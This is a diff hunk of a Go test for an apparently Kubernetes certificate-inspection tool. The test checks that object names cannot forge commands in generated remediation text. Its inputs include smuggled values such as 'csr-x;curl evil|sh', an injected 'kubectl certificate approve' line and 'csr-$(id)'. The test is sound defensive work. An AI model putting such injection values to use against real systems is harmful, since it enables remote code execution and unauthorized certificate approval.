@@ -15,7 +15,7 @@ func TestANameOfAnObjectForgesNoCommand(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "a'b"} {
 		for where, next := range map[string]string{
-			"a pending request": csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}).Next,
+			"a pending request": csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}).Remediation.Text,
 			"annotations":       annotationsOf(pki.Location{Kind: "Secret", Namespace: "a", Name: name}),
 			"their namespace":   annotationsOf(pki.Location{Kind: "Secret", Namespace: name, Name: "a"}),
 			"a right to get":    inspect.LiveHints("x").Unread(inspect.MayGet("secret/"+name, "a")),
